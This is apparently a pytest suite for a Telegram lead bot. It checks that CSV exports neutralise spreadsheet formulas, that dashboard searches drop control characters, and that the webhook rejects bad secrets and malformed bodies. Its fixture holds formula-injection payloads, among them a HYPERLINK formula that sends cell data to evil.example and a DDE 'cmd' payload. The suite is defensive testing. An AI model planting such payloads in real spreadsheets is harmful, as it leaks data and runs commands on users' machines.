"""Hostile input from an attack pass: spreadsheet formulas in any exported cell, control
characters (NUL) in a dashboard search, and what is not an update posted to the webhook."""

from __future__ import annotations

import csv
import io
import json
import logging
from collections.abc import AsyncIterator
from pathlib import Path

import aiohttp
import pytest
from aiohttp.test_utils import TestClient, TestServer
from sqlalchemy import update as sql_update

from bot.content import Content
from bot.db.engine import Database
from bot.db.models import Lead
from bot.leads.browse import LeadQuery
from bot.leads.export import COLUMNS, FORMULA_START, export_leads
from bot.leads.repository import LeadRepository
from bot.settings import Settings
from bot.staff.accounts import StaffAccounts
from bot.web.app import build_web_app

from .fakebot import FakeBotAPI, Prospect
from .harness import WEBHOOK_SECRET, Replica, webhook_settings
from .test_web import PASSWORD, Web, add_lead, web

__all__ = ["web"]  # the fixture, imported for pytest

# --- 1. formula injection in the CSV export ------------------------------------------------------

HOSTILE = {
    "email": '=HYPERLINK("http://evil.example/?"&A1)@x.cn',
    "city": "+1+cmd|' /C calc'!A0",
    "timeline": "-2+3",
    "note": "@SUM(1+1)",
    "question": "\t=1+1",
    "assigned_to": "\r=1+1",
    "source_flow": "=flow",
    "locale": "+zh",
    "handle": "@evil",
    "content_version": "-1",
    "contact_name": "=王",
    "company": "+ACME",
}


async def hostile_lead(repo: LeadRepository, db: Database, user: int, phone: str) -> None:
    lead_id = await add_lead(repo, user)
    async with db.sessions() as s, s.begin():
        values = {**HOSTILE, "phone": phone, "schemes": ["=x"], "selfcheck": {"@gap": False}}
        await s.execute(sql_update(Lead).where(Lead.id == lead_id).values(**values))


def assert_neutralised(rows: list[dict[str, str]]) -> None:
    assert rows
    for row in rows:
        for name in COLUMNS:
            value = row[name]
            if name == "phone" and value == "+8613800138000":
                continue  # a valid E.164 number stays usable
            assert not value.startswith(FORMULA_START), (name, value)
        for name, value in HOSTILE.items():
            assert row[name] == "'" + value, name
        assert row["schemes"] == "'=x" and row["selfcheck_gaps"] == "'@gap"


PHONES = ["+8613800138000", "+1+cmd", "=1+1", "-5", "+12"]


async def test_every_text_cell_of_export_leads_is_neutralised(db: Database) -> None:
    repo = LeadRepository(db)
    for i, phone in enumerate(PHONES):
        await hostile_lead(repo, db, 100 + i, phone)
    out = io.StringIO()
    assert await export_leads(repo, out) == len(PHONES)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert_neutralised(rows)
    assert [r["phone"] for r in rows] == ["+8613800138000", "'+1+cmd", "'=1+1", "'-5", "'+12"]


async def test_every_text_cell_of_the_dashboard_export_is_neutralised(web: Web) -> None:
    for i, phone in enumerate(PHONES):
        await hostile_lead(web.repo, web.db, 200 + i, phone)
    await web.login()
    response = await web.client.get("/leads.csv")
    assert response.status == 200
    text = (await response.read()).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text[1:])))
    assert_neutralised(rows)
    assert [r["phone"] for r in rows] == ["+8613800138000", "'+1+cmd", "'=1+1", "'-5", "'+12"]


# --- 2. control characters in a dashboard search -------------------------------------------------


def test_a_query_loses_its_control_characters() -> None:
    query = LeadQuery.parse({"q": "a\x00b\x1b c\x7f\x85\ud800d", "assigned": "\x00bob\r\n"})
    assert query.q == "a b c d" and query.assigned == "bob"
    assert LeadQuery.parse({"q": "\x00", "assigned": "\x00"}) == LeadQuery()


@pytest.fixture
async def dashboard(db: Database, content: Content) -> AsyncIterator[Web]:
    """The dashboard on SQLite and on PostgreSQL (which refuses a NUL in text)."""
    repo = LeadRepository(db)
    accounts = StaffAccounts(db)
    await accounts.add("alice", PASSWORD)
    settings = Settings(_env_file=None, database_url=str(db.engine.url))  # type: ignore[call-arg]
    app = build_web_app(settings, leads=repo, accounts=accounts, content=lambda: content)
    client = TestClient(TestServer(app))
    await client.start_server()
    yield Web(client, db, repo, None)  # type: ignore[arg-type]
    await client.close()


async def test_a_search_with_a_nul_is_answered(dashboard: Web) -> None:
    web = dashboard
    for user in range(3):
        await add_lead(web.repo, 300 + user, company=f"公司{user}")
    await web.login()
    for path in ("/leads?q=a%00b", "/leads?q=%00", "/leads?q=%E5%85%AC%00%E5%8F%B8", "/leads?assigned=%00",
                 "/leads?q=%01%1b%7f&assigned=bob%00", "/leads?q=%ED%A0%80"):  # fmt: skip
        response = await web.client.get(path)
        assert response.status == 200 and 'id="count"' in await response.text(), path
    page = await (await web.client.get("/leads?q=%00")).text()  # the NUL alone: no search at all
    assert all(f"公司{user}" in page for user in range(3))

    response = await web.client.get("/leads.csv?q=%00")
    assert response.status == 200
    text = (await response.read()).decode("utf-8")  # complete: not cut off mid-stream
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [r["company"] for r in rows] == ["公司0", "公司1", "公司2"] and text.endswith("\r\n")

    response = await web.client.get("/leads.csv?q=%E5%85%AC%00&assigned=%00")
    assert response.status == 200
    rows = list(csv.DictReader(io.StringIO((await response.read()).decode("utf-8").removeprefix("\ufeff"))))
    assert len(rows) == 3  # a search for "公", no filter on who the lead is assigned to


# --- 3. the webhook: a non-ASCII secret, a body that is not an update ---------------------------


async def raw_post(url: str, body: bytes, secret: str | bytes | None = WEBHOOK_SECRET) -> int:
    headers: dict[str, str] = {"Content-Type": "application/json"}
    if isinstance(secret, bytes):
        headers["X-Telegram-Bot-Api-Secret-Token"] = secret.decode("latin-1")  # sent as these bytes
    elif secret is not None:
        headers["X-Telegram-Bot-Api-Secret-Token"] = secret
    async with aiohttp.ClientSession() as http, http.post(url, data=body, headers=headers) as response:
        return response.status


def sent(api: FakeBotAPI) -> int:
    return len([c for c in api.calls if c.method == "sendMessage"])


async def test_a_secret_that_is_not_ascii_is_refused(api: FakeBotAPI, tmp_path: Path) -> None:
    replica = await Replica(api, webhook_settings(api, tmp_path)).start()
    try:
        p = Prospect(api, 7301, language_code="en")
        body = json.dumps({"update_id": 1, "message": p._message(text="hello")}).encode()
        before = sent(api)
        for secret in ("é" * len(WEBHOOK_SECRET), WEBHOOK_SECRET + "é", "секрет", "é".encode(), b"\xff\xfe"):
            assert await raw_post(replica.url, body, secret) == 401, secret
        # An update is answered only once handled (handle_in_background off): nothing is pending.
        assert sent(api) == before and api.chat_messages(7301) == []  # nothing processed
        assert await raw_post(replica.url, body) == 200 and sent(api) > before
    finally:
        await replica.stop()


async def test_a_body_that_is_not_an_update_gets_400(
    api: FakeBotAPI, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    replica = await Replica(api, webhook_settings(api, tmp_path)).start()
    try:
        before = sent(api)
        bodies = [
            b"",
            b"not json",
            b'{"update_id": 1,',
            b"\xff\xfe{}",
            b"null",
            b"[]",
            b'"update"',
            b"{}",
            b'{"update_id": "SECRET-PAYLOAD"}',
            b'{"update_id": 2, "message": {"text": "SECRET-PAYLOAD"}}',
            b"[" * 100_000 + b"]" * 100_000,
        ]
        with caplog.at_level(logging.WARNING, logger="bot.webhook"):
            for body in bodies:
                assert await raw_post(replica.url, body) == 400, body[:40]
        warnings = [r for r in caplog.records if r.name == "bot.webhook" and r.levelno == logging.WARNING]
        assert len(warnings) == len(bodies)
        assert "SECRET-PAYLOAD" not in caplog.text  # the payload is not logged
        assert sent(api) == before  # nothing processed (an update is answered once handled)

        # A real update is still handled (200), and one whose handling fails still gets 500.
        p = Prospect(api, 7302, language_code="en")
        update = json.dumps({"update_id": 3, "message": p._message(text="hello")}).encode()
        assert await raw_post(replica.url, update) == 200
        assert "certification assistant" in api.chat_messages(7302)[0].visible
        engine = replica.runtime.engine
        original = engine.handle

        def failing(*args, **kwargs):  # type: ignore[no-untyped-def]
            raise ConnectionError("the database went away for a moment")

        engine.handle = failing  # type: ignore[method-assign]
        try:
            update = json.dumps({"update_id": 4, "message": p._message(text="/start")}).encode()
            assert await raw_post(replica.url, update) == 500  # Telegram delivers it again
        finally:
            engine.handle = original  # type: ignore[method-assign]
    finally:
        await replica.stop()
